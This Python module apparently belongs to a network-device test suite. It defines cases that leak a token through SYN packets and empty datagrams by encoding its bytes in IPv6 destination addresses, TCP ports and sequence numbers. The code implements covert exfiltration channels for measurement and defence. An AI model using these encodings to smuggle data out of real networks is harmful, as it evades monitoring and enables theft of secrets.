"""Where a packet goes, as what it says: handshakes that are never meant to be finished, to addresses that somebody reads."""

import time

from .. import frame
from ..frame import MSS, SYN
from .case import Attempt, Case

TRIES, CREDIT = 400, 80
"""How many are tried, and how many handshakes a device has on credit where no name led it: 64, and some minutes' refill."""


def _numbered(attempt: Attempt, number: int) -> str:
    """An address of the internet whose lower half is the token, its last two bytes a number."""
    return f"2001:db8:cafe:0:{(attempt.token[:6] + number.to_bytes(2)).hex(':', 2)}"


def syns_to_addresses(attempt: Attempt) -> str:
    for number in range(TRIES):
        with attempt.attacker.stream(_numbered(attempt, number)) as stream:
            stream.send(b"", flags=SYN, options=MSS)
        time.sleep(0.004)
    time.sleep(0.2)
    return f"{TRIES} SYNs"


def datagrams_to_addresses(attempt: Attempt) -> str:
    for number in range(TRIES):
        attempt.attacker.send_udp(b"", _numbered(attempt, number), 32100)
        time.sleep(0.004)
    time.sleep(0.2)
    return f"{TRIES} empty datagrams"


def syns_to_ports(attempt: Attempt) -> str:
    """Bytes in both ports and in the number of a SYN: the token lies right behind each other there."""
    sport, dport, first = (int.from_bytes(part) for part in (attempt.token[:2], attempt.token[2:4], attempt.token[4:]))
    ends = frame.between(src=attempt.attacker.address4, dst=attempt.target4)
    for number in range(TRIES):
        body = frame.tcp(b"", **ends, sport=sport, dport=dport, seq=(first & 0xFFFF0000) + number, flags=SYN, options=MSS)
        attempt.attacker.send_ip(frame.ipv4(body, **ends, proto=frame.TCP))
        time.sleep(0.004)
    time.sleep(0.2)
    return f"{TRIES} SYNs"


REASON = "a device may know addresses from before: so many handshakes are free"
CASES = (
    Case(id="syn-ports", text=f"Eight bytes in the ports and the number of {TRIES} SYNs of one flow", play=syns_to_ports,
         allowance_bytes=CREDIT * 16, reason=f"{REASON}, each with the reset that ends it"),
    Case(id="syn-addresses", text=f"Eight bytes each in {TRIES} addresses to which a SYN goes", play=syns_to_addresses,
         allowance_bytes=CREDIT * 8, reason=REASON),
    Case(id="datagram-addresses", text=f"Eight bytes each in {TRIES} addresses to which an empty datagram goes",
         play=datagrams_to_addresses),
)  # fmt: skip
